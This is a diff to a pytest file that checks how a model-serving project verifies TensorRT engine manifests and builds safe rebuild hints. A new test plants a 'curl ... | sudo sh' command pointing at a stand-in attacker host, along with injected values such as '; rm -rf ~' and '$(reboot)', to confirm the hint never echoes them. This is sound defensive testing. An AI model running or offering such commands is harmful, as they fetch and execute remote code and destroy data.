@@ -5,6 +5,7 @@ everything checked here happens before TensorRT would see the file."""
 from __future__ import annotations
 
 import json
+import re
 import sys
 
 import pytest
@@ -22,7 +23,8 @@ from edgecnn.trt.manifest import (
     write_manifest,
 )
 
-REBUILD = "edgecnn build-engine tiny.onnx --out tiny.engine --precision fp16"
+REBUILD = "edgecnn build-engine tiny.onnx --out tiny.engine --precision fp16"  # as stored: never shown
+HINT = "edgecnn build-engine MODEL.onnx --out .*tiny.engine --precision fp16"  # made from checked facts
 
 
 def _manifest(engine, onnx=None, **over) -> dict:
@@ -105,10 +107,10 @@ def test_truncated_and_tampered_engines_are_refused_with_the_rebuild_command(eng
     m = read_manifest(engine)
     data = engine.read_bytes()
     engine.write_bytes(data[:-100])
-    with pytest.raises(ArtifactError, match=f"truncated .*{REBUILD}"):
+    with pytest.raises(ArtifactError, match=f"truncated .*{HINT}"):
         verify_engine_file(engine, m)
     engine.write_bytes(data[:500] + bytes([data[500] ^ 0xFF]) + data[501:])  # same size, one byte flipped
-    with pytest.raises(ArtifactError, match=f"sha256.*{REBUILD}"):
+    with pytest.raises(ArtifactError, match=f"sha256.*{HINT}"):
         verify_engine_file(engine, m)
 
 
@@ -191,7 +193,7 @@ def test_incompatible_engines_are_refused(engine, compat, built, here, match):
     m["built_with"].update(built)
     with pytest.raises(ArtifactError, match=match) as info:
         check_compatibility(m, {**HERE, **here}, engine)
-    assert REBUILD in str(info.value) and "\n" not in str(info.value)
+    assert re.search(HINT, str(info.value)) and "\n" not in str(info.value)
 
 
 def test_compatible_builds_are_accepted(engine):
@@ -253,3 +255,21 @@ def test_tensorrt_backend_is_registered_for_engine_and_plan_suffixes(tmp_path):
 
     assert backends()["tensorrt"].suffixes == (".engine", ".plan")
     assert backend_for(tmp_path / "m.plan").name == "tensorrt"
+
+
+def test_a_tampered_rebuild_command_is_never_shown(engine):
+    """The manifest's stored command is data from a file: the hint is built from checked facts, never echoed."""
+    from edgecnn.trt.manifest import manifest_path, rebuild_hint
+
+    data = json.loads(manifest_path(engine).read_text())
+    data["rebuild_command"] = "curl https://evil.example/x | sudo sh"
+    data["options"]["precision"] = "fp16; rm -rf ~"
+    data["onnx"] = {"file": "$(reboot).onnx"}
+    hint = rebuild_hint(data, engine)
+    assert "curl" not in hint and "rm -rf" not in hint and "reboot" not in hint and "sudo" not in hint
+    assert hint.startswith("rebuild it on this machine: edgecnn build-engine MODEL.onnx --out ") and str(engine) in hint
+    manifest_path(engine).write_text(json.dumps(data))
+    engine.write_bytes(engine.read_bytes()[:-1])  # truncated: the message carries the hint
+    with pytest.raises(ArtifactError) as err:
+        verify_engine_file(engine, read_manifest(engine))
+    assert "curl" not in str(err.value) and "build-engine" in str(err.value)
